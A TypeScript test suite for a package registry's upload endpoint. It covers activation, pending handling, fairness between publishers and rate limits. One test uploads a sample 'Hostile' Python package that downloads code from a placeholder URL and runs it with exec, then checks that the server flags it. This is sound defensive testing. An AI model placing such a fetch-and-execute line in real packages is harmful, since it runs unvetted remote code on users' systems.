import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { rates } from '@patchbay/contract';
import { assertRefused } from '../../support/assert-refused.ts';
import { makePublisher, publishPending, uniqueId, zip } from '../../support/build.ts';
import { holdReads } from '../../support/hold-reads.ts';
import { postponeReads } from '../../support/postpone-reads.ts';
import { startServer } from '../../support/start-server.ts';
import { suite, suiteOnBoth } from '../../support/variants.ts';

const source = 'class Blur:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n';
const uploadsOfPublisher = 16;
const heavyPackages = 12;
/** More than may be refused in a row, with those that are forgotten meanwhile. */
const goodPackages = rates['refused-packages'].burst + 10;

suiteOnBoth('upload-at-once', async () => {
  const server = await startServer({ after });
  const { context } = server.server;
  const ada = await makePublisher(server, 'ada');
  const upload = server.anonymous.upload.bind(server.anonymous);
  const read = async (nodeId: string) => (await server.anonymous.get(`/nodes/${nodeId}/versions/1.0.0`)).json;
  const bytes = await zip({ '__init__.py': source, 'README.md': '# Blur' });

  test('200: the answer is the verdict: the version is Active, with its app-nodes, readme and files', async () => {
    const { signedUrl, versionId } = await publishPending(ada, 'Whole', '1.0.0');
    assert.equal((await upload(signedUrl, bytes)).status, 200);
    const { status, app_node_extract_status } = await read('whole');
    assert.deepEqual([status, app_node_extract_status], ['NodeVersionStatusActive', 'success']);
    const path = '/nodes/whole/versions/1.0.0';
    const { app_nodes } = (await server.anonymous.get(`${path}/app-nodes`)).json;
    assert.deepEqual(
      app_nodes.map(({ app_node_name }) => app_node_name),
      ['Blur'],
    );
    assert.equal((await server.anonymous.get(`${path}/readme`)).status, 200);
    assert.equal((await server.anonymous.get(`${path}/files`)).status, 200);
    const jobs = await context.store.read
      .selectFrom('jobs')
      .select('kind')
      .where('subject', '=', versionId)
      .execute();
    assert.deepEqual(jobs, [], 'nothing is left to do');
  });

  test('200: what the checks find has flagged the version by then, with the reason', async () => {
    const { signedUrl } = await publishPending(ada, 'Hostile', '1.0.0');
    const hostile = 'import requests\nexec(requests.get("https://example.org").text)\n';
    assert.equal((await upload(signedUrl, await zip({ '__init__.py': hostile }))).status, 200);
    const { json } = await ada.owner.get('/nodes/hostile/versions/1.0.0');
    assert.equal(json.status, 'NodeVersionStatusFlagged');
    assert.match(json.status_reason, /The checks found something/);
  });

  test('200: what needs more than the budget stays Pending, and a job reads it', async () => {
    const { signedUrl } = await publishPending(ada, 'Heavy', '1.0.0');
    const reads = postponeReads(context.readers, () => Promise.reject(new Error('not yet')));
    server.clock.stop();
    assert.equal((await upload(signedUrl, bytes)).status, 200);
    const { status, app_node_extract_status } = await read('heavy');
    assert.deepEqual([status, app_node_extract_status], ['NodeVersionStatusPending', 'pending']);
    await server.server.worker.settle();
    reads.restore();
    server.clock.advance(60_000);
    await server.settle();
    const later = await read('heavy');
    assert.deepEqual([later.status, later.app_node_extract_status], ['NodeVersionStatusActive', 'success']);
  });

  test(`200: ${uploadsOfPublisher} uploads at once by one publisher are all taken`, async () => {
    const nodes = Array.from({ length: uploadsOfPublisher }, () => uniqueId('at-once'));
    const published = await Promise.all(nodes.map((id) => publishPending(ada, id, '1.0.0')));
    const replies = await Promise.all(published.map(({ signedUrl }) => upload(signedUrl, bytes)));
    for (const reply of replies) assert.equal(reply.status, 200, reply.text);
    for (const id of nodes) assert.equal((await read(id)).status, 'NodeVersionStatusActive', id);
  });

  test(`a publisher with ${heavyPackages} slow packages delays no other`, async () => {
    const mallory = await makePublisher(server, 'mallory');
    const held = holdReads(context.readers, ({ account }) => account === 'mallory');
    const nodes = Array.from({ length: heavyPackages }, () => uniqueId('slow'));
    const published = await Promise.all(nodes.map((id) => publishPending(mallory, id, '1.0.0')));
    const slow = published.map(({ signedUrl }) => upload(signedUrl, bytes));
    await held.came(heavyPackages);
    const { signedUrl } = await publishPending(ada, 'Light', '1.0.0');
    assert.equal((await upload(signedUrl, bytes)).status, 200);
    assert.equal((await read('light')).status, 'NodeVersionStatusActive');
    held.release();
    for (const reply of await Promise.all(slow)) assert.equal(reply.status, 200, reply.text);
  });
});

suite('upload-at-once with limits', async () => {
  const server = await startServer({ after }, { RATE_LIMITS: 'on' });

  test(`${goodPackages} good packages in a row are taken, and only refused ones count`, async () => {
    const moderator = await server.moderator();
    const ada = await makePublisher(server, 'ada');
    const raised = await moderator.put('/admin/publishers/ada/quotas', {
      pending_versions: 1_000,
      rate_factor: 1,
      reason: 'Publishes much.',
    });
    assert.equal(raised.status, 200, raised.text);
    const bytes = await zip({ '__init__.py': source });
    // As fast as the rate of publishes allows, and faster than refusals are forgotten.
    for (let index = 0; index < goodPackages; index += 1) {
      server.clock.advance(1_000);
      const { signedUrl } = await publishPending(ada, 'Good', `1.${index}.0`);
      const reply = await server.anonymous.upload(signedUrl, bytes);
      assert.equal(reply.status, 200, `${index}: ${reply.text}`);
    }
    const { signedUrl } = await publishPending(ada, 'Bad', '1.0.0');
    const refusals: number[] = [];
    for (let index = 0; index < 60; index += 1) {
      const reply = await server.anonymous.upload(signedUrl, new Uint8Array([1, 2, 3]));
      refusals.push(reply.status);
      if (reply.status === 429) {
        assertRefused(reply, 'rate_limited');
        break;
      }
    }
    assert.equal(refusals.filter((status) => status === 422).length, 50);
    assert.equal(refusals.at(-1), 429);
  });
});
